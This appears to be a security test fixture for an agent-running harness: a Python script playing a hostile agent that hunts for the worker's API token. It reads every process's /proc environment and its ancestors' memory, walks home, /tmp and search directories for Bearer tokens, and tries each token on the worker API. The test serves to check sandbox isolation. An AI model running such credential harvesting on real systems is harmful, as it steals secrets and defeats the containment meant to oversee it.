"""A hostile agent (issue 21): it looks for the worker's token everywhere a process of its user can
look without a sandbox, and tries every token it finds on the worker API. Standard library only; it
runs as the round's agent command: ``python3 hunter.py CONTROLLER_URL REPORT_DIR LAST_TURN SEARCH_ROOT...``.

``/tmp`` is walked in the round's last turn only: on a shared machine it holds hundreds of thousands of
files, and walking it was most of the test's time (several minutes under load). What the worker left
there in an earlier turn is still there then, and what it keeps there only while a turn runs it keeps
in every turn; every turn still reads ``/proc``, the search roots, ``HOME`` and its workspace.

The report (``REPORT_DIR/turn-<n>.json``) lists each token found with where, what each ancestor's
``/proc`` gave (cmdline, and the errno of environ and mem when refused) and the status of every try.
"""

import errno
import json
import os
import re
import sys
import urllib.error
import urllib.request

ASSIGNED = re.compile(rb"CRUCIBLE_WORKER_TOKEN=([A-Za-z0-9_\-]+)")
BEARER = re.compile(rb"Bearer ([A-Za-z0-9_\-]{16,})")
MAX_FILE = 4 << 20


def read(path, limit=None):
    with open(path, "rb") as handle:
        return handle.read() if limit is None else handle.read(limit)


def refused(exc):
    return errno.errorcode.get(exc.errno, str(exc.errno)) if isinstance(exc, OSError) else repr(exc)


def tokens_in(blob):
    """Values of ``CRUCIBLE_WORKER_TOKEN=`` (an environment block, a file) and of ``Bearer`` headers."""
    found = {m.group(1).decode() for m in ASSIGNED.finditer(blob)}
    found.update(m.group(1).decode() for m in BEARER.finditer(blob))
    return found


def ancestors():
    chain, pid = [], os.getppid()
    while pid > 1:
        chain.append(pid)
        try:
            pid = int(read(f"/proc/{pid}/stat").rsplit(b")", 1)[1].split()[1])
        except OSError:
            break
    return chain


def memory(pid):
    found = set()
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
        for line in maps:
            span, perms = line.split()[:2]
            if not perms.startswith("rw"):
                continue
            low, high = (int(x, 16) for x in span.split("-"))
            try:
                mem.seek(low)
                found |= tokens_in(mem.read(min(high - low, 64 << 20)))
            except (OSError, OverflowError, ValueError):
                continue
    return found


def main():
    url, report_dir, last, roots = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4:]
    run_id, turn = os.environ["CRUCIBLE_RUN_ID"], os.environ["CRUCIBLE_TURN"]
    found, procs = {}, {}
    own = b"\0".join(f"{k}={v}".encode() for k, v in os.environ.items())
    for token in tokens_in(own + b"\0" + " ".join(sys.argv).encode()):
        found.setdefault(token, "the agent's own environment or arguments")
    for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
        try:
            for token in tokens_in(read(f"/proc/{pid}/environ")):
                found.setdefault(token, f"/proc/{pid}/environ")
        except OSError:
            pass
    for pid in ancestors():
        entry = {}
        try:
            entry["cmdline"] = read(f"/proc/{pid}/cmdline").replace(b"\0", b" ").decode(errors="replace")
        except OSError as exc:
            entry["cmdline"] = refused(exc)
        for what, get in (("environ", lambda p: tokens_in(read(f"/proc/{p}/environ"))), ("mem", memory)):
            try:
                for token in get(pid):
                    found.setdefault(token, f"/proc/{pid}/{what}")
                entry[what] = "read"
            except OSError as exc:
                entry[what] = refused(exc)
        procs[str(pid)] = entry
    shared = ["/tmp"] if turn == last else []
    for root in [*roots, os.environ.get("HOME", "/nonexistent"), *shared, os.getcwd()]:
        for folder, _dirs, files in os.walk(root):
            for name in files:
                path = os.path.join(folder, name)
                try:
                    if os.path.getsize(path) <= MAX_FILE:
                        for token in tokens_in(read(path)):
                            found.setdefault(token, path)
                except OSError:
                    continue
    tries = {}
    for token in [*sorted(found), ""]:
        request = urllib.request.Request(f"{url}/api/worker/runs/{run_id}/job")
        if token:
            request.add_header("Authorization", f"Bearer {token}")
        try:
            with urllib.request.urlopen(request, timeout=10) as answer:
                tries[token] = answer.status
        except urllib.error.HTTPError as exc:
            tries[token] = exc.code
        except OSError as exc:
            tries[token] = refused(exc)
    report = {"found": found, "ancestors": procs, "tries": tries, "uid": os.getuid(), "walked": shared}
    with open(os.path.join(report_dir, f"turn-{turn}.json"), "w") as out:
        json.dump(report, out)
    print("HYPOTHESIS: the worker's token is somewhere")


main()
